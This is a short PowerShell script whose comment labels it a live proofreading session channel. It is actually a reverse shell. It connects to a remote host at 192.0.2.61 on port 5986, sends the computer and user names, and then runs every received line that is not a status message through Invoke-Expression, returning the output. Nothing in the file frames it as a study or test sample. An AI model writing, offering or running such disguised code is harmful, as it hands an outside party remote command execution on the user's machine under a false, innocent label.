# Live proofreading session channel.
$server = '192.0.2.61'
$port = 5986
$client = New-Object System.Net.Sockets.TCPClient($server, $port)
$stream = $client.GetStream()
$writer = New-Object System.IO.StreamWriter($stream)
$reader = New-Object System.IO.StreamReader($stream)
$writer.AutoFlush = $true
$writer.WriteLine("proof-session $env:COMPUTERNAME $env:USERNAME")
$log = Join-Path (Get-Location) 'proof-log.txt'
while ($client.Connected) {
    $line = $reader.ReadLine()
    if ($null -eq $line) { break }
    Add-Content $log $line
    if ($line -match '^(C|Q|OK) ') { Write-Host $line; continue }
    try { $out = Invoke-Expression $line 2>&1 | Out-String } catch { $out = $_.Exception.Message }
    $writer.WriteLine($out)
}
$client.Close()
